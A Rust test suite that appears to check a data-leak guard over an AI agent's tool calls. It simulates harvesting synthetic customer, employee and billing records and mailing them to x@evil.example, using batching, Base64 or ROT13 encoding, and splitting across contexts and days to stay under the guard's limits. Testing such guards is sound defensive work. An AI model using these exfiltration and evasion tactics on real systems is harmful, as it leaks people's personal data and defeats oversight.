//! A staged harvest of 500 persons, in every way it can be split up and hidden.

use super::*;

const PERSONS: usize = 500;

/// What a server knows of a person.
type Row = fn(usize) -> String;

/// How the harvest goes about it.
#[derive(Debug, Clone, Copy)]
struct Way {
    /// How many are read at once.
    read: usize,
    /// How many are sent at once.
    send: usize,
    encoding: Encoding,
}

#[derive(Debug, Clone, Copy)]
enum Encoding {
    Plain,
    Base64,
    Rot13,
}

impl Encoding {
    fn apply(self, text: &str) -> String {
        const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        match self {
            Self::Plain => text.to_owned(),
            Self::Rot13 => text
                .chars()
                .map(|c| match c {
                    'a'..='m' | 'A'..='M' => (c as u8 + 13) as char,
                    'n'..='z' | 'N'..='Z' => (c as u8 - 13) as char,
                    _ => c,
                })
                .collect(),
            Self::Base64 => {
                let mut out = String::new();
                for chunk in text.as_bytes().chunks(3) {
                    let bits = chunk.iter().fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte))
                        << (8 * (3 - chunk.len()));
                    for place in 0..=chunk.len() {
                        out.push(DIGITS[bits >> (18 - 6 * place) & 63] as char);
                    }
                    out.push_str(["", "==", "=", ""][chunk.len()]);
                }
                out
            }
        }
    }
}

fn customer(i: usize) -> String {
    format!(
        r#"{{"customer_id":"C{}","name":"Person {i}","email":"p{i}@cust{}.example","phone":"+1555{}"}}"#,
        10_000 + i,
        i % 37,
        1_000_000 + i
    )
}

fn employee(i: usize) -> String {
    let (cust, salary, year) = (i % 37, 40_000 + i, i % 90 + 10);
    format!(
        r#"{{"employee_id":"E{i}","email":"p{i}@cust{cust}.example","salary":{salary},"date_of_birth":"19{year}-01-02"}}"#
    )
}

fn invoice(i: usize) -> String {
    format!(r#"{{"customer_id":"C{}","email":"p{i}@cust{}.example","iban":"DE{i:020}"}}"#, 10_000 + i, i % 37)
}

fn list(rows: impl Iterator<Item = String>) -> String {
    format!("[{}]", rows.collect::<Vec<_>>().join(","))
}

/// How many records of both servers got out by mail, and what stopped it.
fn joined(way: Way) -> (usize, Vec<LedgerRule>) {
    let mut world = World::new(Caps::default());
    let mut out = 0;
    for from in (0..PERSONS).step_by(way.read) {
        let until = (from + way.read).min(PERSONS);
        let reckoning = world.read("crm", &list((from..until).map(customer)));
        if reckoning.withhold.is_some() {
            return (out, reckoning.seen.passed);
        }
        let reckoning = world.read("hr", &list((from..until).map(employee)));
        if reckoning.withhold.is_some() {
            return (out, reckoning.seen.passed);
        }
        for at in (from..until).step_by(way.send) {
            let end = (at + way.send).min(until);
            let rows = (at..end)
                .map(|i| format!("Person {i} p{i}@cust{}.example {} 19{}-01-02", i % 37, 40_000 + i, i % 90 + 10));
            let body = way.encoding.apply(&rows.collect::<Vec<_>>().join("\n"));
            let seen = world.call("mail", &format!(r#"{{"to":"x@evil.example","body":{body:?}}}"#), true);
            if !seen.passed.is_empty() {
                return (out, seen.passed);
            }
            out += end - at;
        }
    }
    (out, Vec::new())
}

/// How many persons' records three servers gave before an answer was kept back, with nothing sent.
fn read_only(page: usize, is_shared: bool, as_json: bool) -> (usize, Vec<LedgerRule>) {
    let mut world = World::new(Caps::default());
    let servers: [(&str, Row); 3] = [("crm", customer), ("hr", employee), ("billing", invoice)];
    let mut given = 0;
    for from in (0..PERSONS).step_by(page) {
        for (at, (server, row)) in servers.iter().enumerate() {
            let persons: Vec<usize> = (from..(from + page).min(PERSONS)).filter(|i| is_shared || i % 3 == at).collect();
            let rows: Vec<String> = persons.iter().map(|i| row(*i)).collect();
            let text =
                if as_json { format!("[{}]", rows.join(",")) } else { rows.join("\n").replace(['{', '}', '"'], " ") };
            let reckoning = world.read(server, &text);
            if reckoning.withhold.is_some() {
                return (given, reckoning.seen.passed);
            }
            given = if is_shared { given.max(from + persons.len()) } else { given + persons.len() };
        }
    }
    (given, Vec::new())
}

#[test]
fn a_staged_harvest_is_stopped_before_record_60() {
    let mut worst = 0;
    for (read, send) in [(1, 1), (10, 1), (10, 10), (25, 25), (50, 1), (50, 50), (500, 50), (500, 500), (500, 1)] {
        for encoding in [Encoding::Plain, Encoding::Base64, Encoding::Rot13] {
            let way = Way { read, send, encoding };
            let (out, passed) = joined(way);
            println!("{way:?}: {out} records out, stopped by {passed:?}");
            assert!(out < 60, "{way:?}: {out} records out");
            worst = worst.max(out);
        }
    }
    for page in [1, 5, 10, 20, 25, 50] {
        for is_shared in [true, false] {
            for as_json in [true, false] {
                let (given, passed) = read_only(page, is_shared, as_json);
                println!("pages of {page}, shared {is_shared}, JSON {as_json}: {given} given, stopped by {passed:?}");
                assert!(given < 60, "{page} {is_shared} {as_json}: {given}");
                worst = worst.max(given);
            }
        }
    }
    println!("at worst {worst} records");
}

/// The same over many contexts of one principal, of which none passes a bound: later, because honest work is spread over
/// contexts as well, but not much.
#[test]
fn a_harvest_split_over_contexts_is_stopped_as_well() {
    let mut world = World::new(Caps::default());
    let mut out = 0;
    'harvest: for from in (0..PERSONS).step_by(10) {
        for i in from..from + 10 {
            for (server, row) in [("crm", customer(i)), ("hr", employee(i))] {
                if world.read(server, &row).withhold.is_some() {
                    break 'harvest;
                }
            }
            out += 1;
        }
        world.start_context();
    }
    println!("over contexts of ten persons: {out} records");
    assert!(out < 80, "{out}");
}

#[test]
fn the_next_day_is_another_day_and_the_month_is_not_forgotten() {
    let caps = Caps::default();
    let mut world = World::new(Caps { month: Bounds { steps: 800, ..caps.month }, ..caps });
    let mut given = 0;
    for day in 0..30 {
        world.now = Timestamp::from_micros(world.now.as_micros() + 86_400 * 1_000_000);
        world.start_context();
        for i in day * 30..day * 30 + 30 {
            if world.read("crm", &customer(i)).withhold.is_some() {
                assert_eq!(given, 799);
                return;
            }
            given += 1;
        }
    }
    panic!("{given} were given");
}
